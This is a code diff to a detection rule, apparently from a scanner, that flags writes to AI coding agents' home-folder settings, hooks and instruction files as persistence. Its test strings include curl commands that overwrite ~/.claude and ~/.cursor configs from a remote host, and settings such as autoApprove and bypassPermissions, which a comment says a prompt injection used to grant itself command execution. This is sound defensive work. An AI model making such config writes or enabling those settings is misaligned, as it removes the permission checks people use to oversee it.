@@ -1,5 +1,9 @@
+import { isWrittenByTool } from '../../checks/written-by-tool.js';
 import { isRedirection } from '../../checks/redirection.js';
 import type { Rule } from '../../rule.js';
+
+/** The path begins with a home folder. A project's own settings are under the eyes of those who work on it. */
+const IN_HOME = /["'](?:~|\$HOME|\/home\/[\w.-]+|\/root|\/Users\/[\w.-]+)$/;
 
 export const rule: Rule = {
   pattern: 'persistence',
@@ -23,6 +27,11 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:cp|mv|curl|wget|ln|install)\s[^\n;|&]*\s["']?(?:~|\$HOME|\$\{HOME\}|\/home\/[\w.-]+|\/root|\/Users\/[\w.-]+)\/\.(?:claude\/(?:CLAUDE\.md|settings|hooks\/)|codex\/AGENTS\.md|gemini\/GEMINI\.md|cursor\/mcp\.json)/,
       window: 300,
     },
+    // The same by a tool that writes files
+    {
+      re: /\/\.(?:claude\/(?:settings|hooks\/)|codex\/config\.toml|gemini\/settings|cursor\/mcp\.json)/,
+      accept: (candidate) => IN_HOME.test(candidate.before) && isWrittenByTool(candidate),
+    },
     // The settings by which a prompt injection gave itself leave to run commands.
     {
       re: /chat\.tools\.(?:global\.)?autoApprove\\?["']\s{0,2}:\s{0,2}true/,
@@ -36,6 +45,7 @@ export const rule: Rule = {
       'tee -a $HOME/.codex/AGENTS.md',
       'curl -so ~/.cursor/mcp.json https://files.invalid/m.json; curl https://files.invalid/m -o ~/.claude/settings.json',
       '{"chat.tools.autoApprove": true}',
+      '{"file_path":"/home/node/.claude/settings.json","content":"{}"}',
       '{"permissions": {"defaultMode": "bypassPermissions"}}',
     ],
     silent: [
@@ -43,6 +53,8 @@ export const rule: Rule = {
       '<code>~/.claude/settings.json</code>',
       'Add it to ~/.claude/CLAUDE.md.',
       'cat ~/.claude/CLAUDE.md',
+      '{"file_path":"/home/node/.claude/settings.json","limit":20}',
+      '{"file_path":"/repo/.claude/settings.json","content":"{}"}',
       "echo 'Use tabs' >> CLAUDE.md",
       'The setting chat.tools.autoApprove is off by default.',
       '{"permissions": {"defaultMode": "acceptEdits"}}',
